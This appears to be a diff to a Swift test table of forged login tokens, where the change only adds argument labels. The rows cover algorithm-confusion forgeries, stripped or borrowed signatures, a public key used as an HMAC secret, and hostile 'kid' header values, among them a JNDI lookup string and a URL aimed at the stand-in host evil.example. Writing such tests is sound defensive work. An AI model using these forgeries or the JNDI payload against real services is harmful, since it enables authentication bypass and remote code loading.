@@ -19,7 +19,7 @@ extension ForgedLoginTable {
             let input = honest.split(separator: ".")[..<2].joined(separator: ".")
             let forged = try secrets.map { builder.signed(input: input, by: try SigningKey(hmacSecret: $0)) }
             for token in [honest, input + "."] + forged {
-                rows.append(builder.row("alg \(name.prefix(20))", "algorithm", token))
+                rows.append(builder.row("alg \(name.prefix(20))", expecting: "algorithm", token: token))
             }
         }
         return rows
@@ -46,15 +46,18 @@ extension ForgedLoginTable {
         signatures += [0, 1, 255].map { [UInt8](repeating: $0, count: 256) }
         let unsigned = builder.with(claim: "sub", "001.victim").split(separator: ".")[..<2].joined(separator: ".")
         var rows: [Row] = signatures.enumerated().map { number, bytes in
-            builder.row("signature \(number)", "signature", builder.join(builder.input, bytes))
+            builder.row("signature \(number)", expecting: "signature", token: builder.join(builder.input, bytes))
         }
         rows += [
-            builder.row("of another token", "signature", builder.join(unsigned, genuine)),
-            builder.row("without a signature", "signature", unsigned + "."),
-            builder.row("by another key with the same id", "signature", builder.signed(by: forger)),
+            builder.row("of another token", expecting: "signature", token: builder.join(unsigned, genuine)),
+            builder.row("without a signature", expecting: "signature", token: unsigned + "."),
+            builder.row("by another key with the same id", expecting: "signature", token: builder.signed(by: forger)),
             builder.row(
-                "by a key in the header", "signature", builder.signed(header: embedded.description, by: forger)),
-            builder.row("by the public key", "signature", builder.signed(by: try SigningKey(hmacSecret: publicKey))),
+                "by a key in the header", expecting: "signature",
+                token: builder.signed(header: embedded.description, by: forger)),
+            builder.row(
+                "by the public key", expecting: "signature",
+                token: builder.signed(by: try SigningKey(hmacSecret: publicKey))),
         ]
         return rows
     }
@@ -68,6 +71,8 @@ extension ForgedLoginTable {
             "https://evil.example/keys", "%00", "${jndi:ldap://evil.example}", "*", String(repeating: "k", count: 256),
             "\u{FEFF}" + own, "\u{202E}" + own,
         ]
-        return names.map { builder.row("kid \($0)", "unknown_key", builder.with(header: "kid", .string($0))) }
+        return names.map {
+            builder.row("kid \($0)", expecting: "unknown_key", token: builder.with(header: "kid", .string($0)))
+        }
     }
 }
